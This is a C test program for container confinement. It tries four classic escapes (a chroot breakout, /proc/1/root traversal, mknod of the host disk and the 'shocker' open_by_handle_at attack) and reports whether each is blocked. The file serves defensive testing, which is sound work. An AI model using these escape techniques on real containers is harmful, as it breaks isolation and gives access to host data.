/* A hostile program for the confinement tests: it tries the classic ways out of a container and
 * reports each as "blocked" or "ESCAPED". Usage: escape SECRET SENTINEL MAJOR MINOR [REPORT]
 *   SECRET    a host file it must not be able to read (its content must never show up)
 *   SENTINEL  a host path it tries to create (it must stay absent)
 *   MAJOR MINOR  the host root disk's device numbers (mknod must not give access to it)
 * Exit status: 0 when every attempt was blocked, 3 when one got through. Built with gcc -static. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static char report[8192];
static int escaped;

static void say(const char *what, int ok, const char *detail) {
    size_t used = strlen(report);
    snprintf(report + used, sizeof report - used, "%s: %s%s%s\n", what, ok ? "ESCAPED" : "blocked",
             detail[0] ? " " : "", detail);
    if (ok) escaped = 1;
}

/* Read `path` and create `sentinel`; nonzero if either worked. */
static int touch_host(const char *path, const char *sentinel, char *detail, size_t size) {
    int got = 0;
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        char buf[128] = {0};
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n > 0) { snprintf(detail, size, "read %s", path); got = 1; }
    }
    fd = open(sentinel, O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (fd >= 0) { close(fd); snprintf(detail, size, "created %s", sentinel); got = 1; }
    return got;
}

static void try_chroot(const char *secret, const char *sentinel) {
    char detail[512] = "";
    mkdir("/.escape", 0700);
    if (chroot("/.escape") != 0) { snprintf(detail, sizeof detail, "(chroot: %s)", strerror(errno)); say("chroot-escape", 0, detail); return; }
    for (int i = 0; i < 256; i++) (void)chdir("..");
    (void)chroot(".");
    int ok = touch_host(secret, sentinel, detail, sizeof detail);
    say("chroot-escape", ok, detail);
}

static void try_proc_root(const char *secret, const char *sentinel) {
    char a[4096], b[4096], detail[512] = "";
    snprintf(a, sizeof a, "/proc/1/root%s", secret);
    snprintf(b, sizeof b, "/proc/1/root%s", sentinel);
    say("proc-1-root", touch_host(a, b, detail, sizeof detail), detail);
}

static void try_mknod(unsigned major, unsigned minor) {
    char detail[512] = "";
    unlink("/.disk");
    if (mknod("/.disk", S_IFBLK | 0600, makedev(major, minor)) != 0) {
        snprintf(detail, sizeof detail, "(mknod: %s)", strerror(errno));
        say("mknod-host-disk", 0, detail);
        return;
    }
    int fd = open("/.disk", O_RDONLY);
    char buf[512];
    int ok = fd >= 0 && read(fd, buf, sizeof buf) > 0;
    if (!ok) snprintf(detail, sizeof detail, "(open: %s)", strerror(errno));
    if (fd >= 0) close(fd);
    unlink("/.disk");
    say("mknod-host-disk", ok, detail);
}

static void try_open_by_handle(void) {
    /* The "shocker" attack: a handle for inode 2 (the root of an ext4 file system) opened from any
     * descriptor on that file system needs CAP_DAC_READ_SEARCH in the initial user namespace. */
    char detail[512] = "";
    struct { unsigned int bytes; int type; unsigned char handle[8]; } h = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};
    int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(mount_fd, (struct file_handle *)&h, O_RDONLY);
    if (fd < 0) snprintf(detail, sizeof detail, "(%s)", strerror(errno));
    else close(fd);
    if (mount_fd >= 0) close(mount_fd);
    say("open-by-handle", fd >= 0, detail);
}

int main(int argc, char **argv) {
    if (argc < 5) { fprintf(stderr, "usage: escape SECRET SENTINEL MAJOR MINOR\n"); return 2; }
    int pid = fork();
    if (pid == 0) {  /* the chroot escape changes the root: do it in a child */
        try_chroot(argv[1], argv[2]);
        fputs(report, stdout);
        return escaped ? 3 : 0;
    }
    int status = 0;
    waitpid(pid, &status, 0);
    fflush(stdout);
    try_proc_root(argv[1], argv[2]);
    try_mknod((unsigned)atoi(argv[3]), (unsigned)atoi(argv[4]));
    try_open_by_handle();
    fputs(report, stdout);
    return escaped || !WIFEXITED(status) || WEXITSTATUS(status) ? 3 : 0;
}
